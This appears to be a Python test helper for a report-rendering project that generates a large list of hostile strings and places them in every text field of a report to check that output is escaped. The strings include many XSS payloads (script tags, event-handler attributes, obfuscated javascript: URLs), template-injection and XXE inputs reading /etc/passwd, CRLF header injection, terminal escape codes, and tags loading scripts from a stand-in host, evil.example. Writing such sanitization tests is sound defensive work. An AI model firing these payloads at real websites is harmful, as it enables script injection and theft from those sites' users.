"""Strings that want to be more than text, and reports that are full of them."""

from functools import cache
from typing import Annotated, Any, cast, get_args, get_origin

import attrs

from postmortem.errors import FieldError
from postmortem.facade import Report
from tests.everything import everything

_CODE = (
    "alert(1)", "alert`1`", "top['al'+'ert'](1)", "prompt(1)", "import('//evil.example')",
)  # fmt: skip
_SCHEMES = (
    "javascript:", "JaVaScRiPt:", " javascript:", "\tjavascript:", "\x01javascript:", "java\nscript:",
    "java\tscript:", "java&#10;script:", "java&Tab;script:", "&#106;avascript:", "javascript&colon;",
    "javascript&#58;", "&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A", "javascript\\:",
    "%6aavascript:", "vbscript:", "livescript:", "data:text/html,", "data:text/html;base64,PHN2Zz4,",
    "data:image/svg+xml,<svg onload=alert(1)>", "data:,", "file:///etc/passwd#", "blob:", "filesystem:",
    "//evil.example/", "\\\\evil.example\\", "/\\evil.example/", "view-source:javascript:", "feed:javascript:",
    "about:blank#", "chrome:", "ms-its:", "\u2028javascript:", "\u00a0javascript:", "\u0130javascript:",
    "jav\u0430script:", "x-javascript:", "http:javascript:", "HTTPS:javascript:", "mailto:x?body=<script>",
)  # fmt: skip
_LINKS = (
    "[x]({0}{1})", "[x](<{0}{1}>)", "![x]({0}{1})", "<{0}{1}>", "[![x]({0}{1})]({0}{1})",
    "[x]: {0}{1}\n\n[x]", "[x][y]\n\n[y]: <{0}{1}>", '[x]({0}{1} "t")',
)  # fmt: skip
_TAGS = (
    "<script>{0}</script>", "<ScRiPt>{0}</sCrIpT>", "</script><script>{0}</script>", "<script src=//evil.example>",
    "<img src=x onerror={0}>", '<img src="x" onerror="{0}">', "<svg onload={0}>", "<svg/onload={0}>",
    "<svg><script>{0}</script></svg>", "<svg><animate onbegin={0} attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:{0}'><text>x</text></a></svg>", "<svg><style><img src=x onerror={0}>",
    "<svg><foreignObject><iframe srcdoc='<script>{0}</script>'>", "<math><mtext><script>{0}</script>",
    "<math><mi//xlink:href='data:x,<script>{0}</script>'>", "<body onload={0}>", "<iframe src=javascript:{0}>",
    "<iframe srcdoc='<script>{0}</script>'>", "<object data=javascript:{0}>", "<embed src=javascript:{0}>",
    "<details open ontoggle={0}>", "<input autofocus onfocus={0}>", "<select autofocus onfocus={0}>",
    "<video><source onerror={0}>", "<audio src=x onerror={0}>", "<marquee onstart={0}>", "<meta http-equiv=refresh content='0;url=javascript:{0}'>",
    "<base href=//evil.example/>", "<link rel=stylesheet href=//evil.example/x.css>", "<style>@import '//evil.example'</style>",
    "<style>*{{background:url(//evil.example)}}</style>", "</style><script>{0}</script>", "</title><script>{0}</script>",
    "</textarea><script>{0}</script>", "</noscript><script>{0}</script>", "<noscript><p title='</noscript><img src=x onerror={0}>'>",
    "<!--<script>{0}</script>-->", "<!--><script>{0}</script>", "<!-- --!><script>{0}</script>", "<![CDATA[<script>{0}</script>]]>",
    "<?xml version='1.0'?><script>{0}</script>", "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;",
    "<form action=javascript:{0}><button>", "<button formaction=javascript:{0}>", "<a href=javascript:{0}>x</a>", "<a/href='javascript:{0}'>x",
    "<a\nhref=javascript:{0}>x", "<p style=background:url(javascript:{0})>", "<p style='width:expression({0})'>", "<x onclick={0}>",
    "<x/onclick={0}//", "<img src=x:x onerror={0}//", "<<script>{0}//<</script>", "<scr<script>ipt>{0}</script>", "<script\x00>{0}</script>",
    "<\x00script>{0}</script>", "\x00<script>{0}</script>", "<script\x0c>{0}</script>", "%3Cscript%3E{0}%3C/script%3E",
    "&lt;script&gt;{0}&lt;/script&gt;", "&#60;script&#62;{0}&#60;/script&#62;", "&#x3c;img src=x onerror={0}&#x3e;", "&amp;lt;script&amp;gt;{0}",
    "\\<script>{0}\\</script>", "`<script>{0}</script>`", "``` <script>{0}</script>", "~~~\n<script>{0}</script>", "*<b onmouseover={0}>*",
    "\u003cscript\u003e{0}", "\uff1cscript\uff1e{0}\uff1c/script\uff1e", "\u02bascript\u02ba{0}", "+ADw-script+AD4-{0}+ADw-/script+AD4-",
    "<br onclick={0}>", "<br/onclick={0}>", "<BR\tonclick={0}>", "<br><script>{0}</script><br>", "</br onclick={0}>",
    "<script type=\"application/json\" id=\"postmortem-data\">{{}}</script>", "</main></body></html><script>{0}</script>",
)  # fmt: skip
_OTHERS = (
    '"', "'", '">', "'>", '" onmouseover="alert(1)', "' onmouseover='alert(1)", '" autofocus onfocus="alert(1)', "`onclick=alert(1)",
    "{{constructor.constructor('alert(1)')()}}", "{{7*7}}", "${alert(1)}", "<%= alert(1) %>", "#{7*7}", "{% debug %}", "%s%n%x", "{0}", "$(id)", "`id`",
    "*/alert(1)/*", "//*[contains(.,'x')]", "}*{color:red}", "\\3c script\\3e", "@import url(//evil.example);", "expression(alert(1))",
    "-->", "]]>", "?>", "--!>", "</", "<", ">", "&", "&#", "&#0;", "&#xD800;", "&#x110000;", "&notit;", "&lt", "<!", "<?", "<a", "<a ", "<a b", "<a b=", "<a b='",
    "\x1b[31mred\x1b[0m", "\x1b]0;title\x07", "\x1b]8;;http://evil.example\x07x\x1b]8;;\x07", "\x9b31m", "\x07\x08\x7f", "\r\nSet-Cookie: x",
    "\u202egpj.exe", "\u2066\u202e abc \u2069", "\u202d\u202c", "\u200f\u200e", "a\u0300" * 50, "\ufeff", "\u200b", "\ufffe", "\uffff", "\U000e0001",
    "[x](y", "[x]()", "[x](<>)", "[](javascript:1)", "![](x)", "[x](y 'z", "[[[[[[[[x]]]]]]]]", "((((((((", "*" * 200, "_" * 200, "`" * 200, "[" * 200, "![" * 100,
    "> " * 60 + "x", "- " * 60 + "x", "[a](" * 60, "<" * 300, "&" * 300, "\\" * 301, "| a | b |\n|---|---|\n| <b> | x |", "# <script>", "###### [x](javascript:1)",
    "w" * 10_000, "日本語" * 300, "👩‍🚀" * 100, "postmortem-data", "content", "contents", "chart-title", "__proto__", "constructor",
)  # fmt: skip


@cache
def hostile_strings() -> tuple[str, ...]:
    """Return the strings, each once."""
    links = [
        form.format(scheme, _CODE[(place + at) % len(_CODE)])
        for place, scheme in enumerate(_SCHEMES)
        for at, form in enumerate(_LINKS)
    ]
    tags = [form.format(_CODE[at % len(_CODE)]) for at, form in enumerate(_TAGS)]
    return tuple(dict.fromkeys([*links, *tags, *_OTHERS]))


def full_of(text: str) -> Report:
    """Return the report that has everything, with a text in each of its fields that takes text."""
    return cast("Report", _with(everything(), text))


def _with(value: Any, text: str) -> Any:
    for field in attrs.fields(type(value)):
        inner = getattr(value, field.name)
        if inner is None or field.name == "after" or not field.init:
            continue
        try:
            value = attrs.evolve(value, **{field.name: _replaced(field.type, inner, text)})
        except FieldError:  # a language, or a label of the document's own
            continue
    return value


def _replaced(annotation: Any, value: Any, text: str) -> Any:
    if isinstance(value, tuple):
        inner = get_args(annotation)[0]
        return tuple(_replaced(inner, item, text) for item in value)
    if attrs.has(type(value)):
        return _with(value, text)
    kinds = [annotation, *get_args(annotation)]
    return text if any(get_origin(kind) is Annotated for kind in kinds) else value
